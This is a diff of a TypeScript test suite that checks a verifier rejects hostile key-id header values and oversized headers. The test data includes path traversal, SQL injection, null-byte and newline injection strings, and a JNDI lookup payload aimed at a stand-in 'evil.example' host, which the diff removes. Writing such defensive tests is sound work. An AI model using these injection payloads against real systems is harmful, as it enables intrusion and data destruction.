@@ -258,19 +258,15 @@ describe('THREAT-008 a key id that names no key, or another one', () => {
 })
 
 describe('THREAT-009 a key id as a path, a query, an address or a flood', () => {
-  it.each([
-    '../../dev/null',
-    "'; DROP TABLE keys; --",
-    '%00',
-    'key\n-1',
-    'https://evil.example/#k',
-    '${jndi:ldap://evil.example}',
-  ])('%j', async (text) => {
-    await expectForm(
-      await forge({ header: { kid: text }, payload: payload(), actor: assessor }),
-      'KEY_NOT_FOUND /header/kid',
-    )
-  })
+  it.each(['../../dev/null', "'; DROP TABLE keys; --", '%00', 'key\n-1', 'https://evil.example/#k'])(
+    '%j',
+    async (text) => {
+      await expectForm(
+        await forge({ header: { kid: text }, payload: payload(), actor: assessor }),
+        'KEY_NOT_FOUND /header/kid',
+      )
+    },
+  )
 
   it.each(['../../dev/null', "';--", '%00', '__proto__', 'constructor', 'toString'])(
     'the fragment %s is looked up as it stands',
@@ -286,11 +282,14 @@ describe('THREAT-009 a key id as a path, a query, an address or a flood', () => 
     await expectForm(await forge({ header: { kid }, payload: payload(), actor: assessor }), 'KEY_NOT_FOUND /header/kid')
   })
 
-  it('a megabyte', async () => {
-    const kid = `${assessor.did}#`.padEnd(1024 * 1024, 'k')
+  it.each([
+    ['8 KiB', 8 * 1024, 'LIMIT_SIZE /header'],
+    ['a megabyte', 1024 * 1024, 'LIMIT_SIZE'],
+  ] as const)('%s', async (_, length, expected) => {
+    const kid = `${assessor.did}#`.padEnd(length, 'k')
     const report = await judge(await forge({ header: { kid }, payload: payload(), actor: assessor }), { trust })
     expect(states(report)).toEqual(stoppedAt('input'))
-    expect(reason(report, 'input')).toBe('LIMIT_SIZE /header')
+    expect(reason(report, 'input')).toBe(expected)
   })
 })
 
